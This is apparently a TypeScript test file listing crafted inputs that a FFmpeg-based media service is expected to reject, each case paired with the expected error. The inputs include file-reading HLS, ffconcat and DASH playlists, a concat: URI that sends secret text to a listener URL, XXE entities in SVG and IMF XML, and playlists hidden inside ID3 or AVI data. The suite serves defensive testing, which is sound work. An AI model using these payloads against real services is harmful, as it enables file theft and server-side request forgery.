import type { Ground } from '../ground.ts';
import { failed, failedInItsWords, refused, type HostileCase, type Told } from '../hostile-case.ts';
import { aviWithSubtitles } from '../build/gab2.ts';

const NOT_TAKEN: Told = failed(
  'SOURCE_NOT_MEDIA',
  /this format is not taken, because it can open other files/,
);
const NO_MEDIA: Told = failed('SOURCE_NOT_MEDIA', /FFmpeg finds no media in the source/);

const NO_STREAM: Told = failedInItsWords('ENCODE_FAILED');

function hls(segment: string, ...tags: readonly string[]): string {
  return [
    '#EXTM3U',
    '#EXT-X-TARGETDURATION:1',
    ...tags,
    '#EXTINF:1.0,',
    segment,
    '#EXT-X-ENDLIST',
    '',
  ].join('\n');
}

/** A source that is text, called as given. */
function script(
  [file, name]: readonly [file: string, name: string],
  tries: string,
  text: (ground: Ground) => string,
  told: Told = NOT_TAKEN,
): HostileCase {
  const make = async (ground: Ground) => ({ source_path: await ground.write(file, text(ground)) });
  return { name, tries, make, told };
}

/** Sources that make FFmpeg open what they name. */
export const PLAYLISTS: readonly HostileCase[] = [
  script(['hls.mp4', 'HLS called .mp4'], "copy another job's source", ({ secrets }) =>
    hls(`file://${secrets.video}`),
  ),
  script(
    ['hls-path.ts', 'HLS called .ts'],
    "copy another job's source by its path",
    ({ secrets }) => hls(secrets.video),
  ),
  script(['hls-http.mp4', 'HLS of a URL'], 'have a server inside called', ({ listeners }) =>
    hls(`${listeners.url}/a.ts`),
  ),
  script(
    ['hls-key.mp4', 'HLS with a key'],
    'have a server inside called for a key',
    ({ secrets, listeners }) =>
      hls(secrets.video, `#EXT-X-KEY:METHOD=AES-128,URI="${listeners.url}/key"`),
  ),
  script(
    ['hls-map.mp4', 'HLS with concat:'],
    'glue a secret to a URL that tells it',
    ({ secrets, listeners }) =>
      hls(
        secrets.video,
        `#EXT-X-MAP:URI="concat:${listeners.url}/?|subfile,,start,0,end,99,,:${secrets.text}"`,
      ),
  ),
  script(['hls-data.mp4', 'HLS with data:'], 'bring another playlist along', ({ secrets }) =>
    hls(`data:application/x-mpegurl;base64,${Buffer.from(hls(secrets.video)).toString('base64')}`),
  ),
  script(
    ['master.m3u8', 'HLS with variants'],
    "copy another job's source by two playlists",
    ({ secrets }) =>
      `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhls.mp4\n#EXT-X-STREAM-INF:BANDWIDTH=2\n${secrets.video}\n`,
  ),
  script(
    ['script.mp4', 'ffconcat called .mp4'],
    "copy another job's source",
    ({ secrets }) => `ffconcat version 1.0\nfile '${secrets.video}'\n`,
  ),
  script(
    ['options.mkv', 'ffconcat with options'],
    'lift the limits on protocols',
    ({ listeners }) =>
      `ffconcat version 1.0\nfile '${listeners.url}/a'\noption protocol_whitelist http,tcp,file\noption safe 0\n`,
  ),
  script(
    ['list.ffconcat', 'concat called .ffconcat'],
    "copy another job's source",
    ({ secrets }) => `file '${secrets.video}'\n`,
    NO_MEDIA,
  ),
  script(
    ['dash.mp4', 'DASH called .mp4'],
    'read a file, and have a server called',
    ({ secrets, listeners }) =>
      [
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"',
        'mediaPresentationDuration="PT1S"><Period><AdaptationSet contentType="video"><Representation id="1" bandwidth="1">',
        `<BaseURL>${listeners.url}/</BaseURL><SegmentList><Initialization sourceURL="${secrets.video}"/><SegmentURL media="b"/></SegmentList>`,
        '</Representation></AdaptationSet></Period></MPD>',
      ].join(' '),
  ),
  script(
    ['session.mp4', 'SDP called .mp4'],
    'listen on the network',
    () =>
      'v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n',
  ),
  script(
    ['cpl.xml', 'IMF composition'],
    'read the files of an asset map',
    ({ secrets }) =>
      [
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://' + secrets.text + '">]>',
        '<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:0</Id><ContentTitle>&e;</ContentTitle>',
        '<EditRate>25 1</EditRate><SegmentList/></CompositionPlaylist>',
      ].join(''),
    NO_MEDIA,
  ),
  script(
    ['subs.idx', 'VobSub index'],
    'read the file of the same name',
    () =>
      '# VobSub index file, v7 (do not modify this line!)\nsize: 320x240\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n',
  ),
  script(
    ['old.mp4', 'M3U without tags'],
    'read a list of files',
    ({ secrets }) => `#EXTM3U\n${secrets.video}\n`,
    NO_MEDIA,
  ),
  script(
    ['list.pls', 'PLS playlist'],
    'read a list of files',
    ({ secrets }) => `[playlist]\nFile1=${secrets.video}\nNumberOfEntries=1\n`,
    NO_STREAM,
  ),
  script(
    ['list.asx', 'ASX playlist'],
    'have a server called',
    ({ listeners }) => `<asx version="3.0"><entry><ref href="${listeners.url}/a"/></entry></asx>`,
    NO_MEDIA,
  ),
  script(
    ['movie.mov', 'RTSPtext'],
    'lead to a stream elsewhere',
    () => 'RTSPtextRTSP://127.0.0.1/x\r',
    NO_MEDIA,
  ),
  script(
    ['reader.avs', 'AviSynth script'],
    'run a script',
    ({ secrets }) => `DirectShowSource("${secrets.video}")\n`,
    NO_MEDIA,
  ),
  script(['words.txt', 'text called .txt'], 'make pictures of text', () =>
    'Dear reader,\n'.repeat(50),
  ),
  script(['art.ans', 'ANSI art'], 'make pictures of escape sequences', () =>
    '\u001B[31mred\u001B[999999B'.repeat(20),
  ),
  script(
    ['facts.mp4', 'ffmetadata'],
    'have metadata parsed',
    () => ';FFMETADATA1\ntitle=x\n[CHAPTER]\nSTART=0\nEND=9\n',
  ),
  script(
    ['image.svg', 'SVG with a picture'],
    'read a picture by SVG',
    ({ secrets }) =>
      `<svg xmlns="http://www.w3.org/2000/svg" width="320" height="240"><image href="file://${secrets.picture}" width="320" height="240"/></svg>`,
    NO_MEDIA,
  ),
  script(
    ['entity.svg', 'SVG with an entity'],
    'read a file by XML',
    ({ secrets }) =>
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file://${secrets.text}">]><svg xmlns="http://www.w3.org/2000/svg" width="320" height="240"><text y="20">&e;</text></svg>`,
    NO_MEDIA,
  ),
  {
    name: 'SVG by a chosen decoder',
    tries: 'get SVG past the list of formats: image2 and librsvg',
    make: async (ground) => ({
      source_path: await ground.write(
        'chosen.svg',
        `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xi="http://www.w3.org/2001/XInclude" width="320" height="240"><image xlink:href="file://${ground.secrets.picture}" width="320" height="240"/><xi:include href="file://${ground.secrets.text}" parse="text"/></svg>`,
      ),
      infile: { f: 'image2', 'c:v': 'librsvg' },
    }),
    told: refused('BAD_OPTION', /may not use the decoder "librsvg"/),
  },
  script(
    ['id3.mp3', 'playlist after ID3'],
    'hide a playlist behind a tag',
    ({ secrets }) => `ID3\u0003\0\0\0\0\0\n${'\0'.repeat(10)}${hls(secrets.video)}`,
  ),
  {
    name: 'playlist as subtitles of an AVI',
    tries: "copy another job's source, from inside a real container",
    make: async (ground) => ({
      source_path: await ground.write('gab2.avi', aviWithSubtitles(hls(ground.secrets.video))),
    }),
    told: NO_STREAM,
  },
];
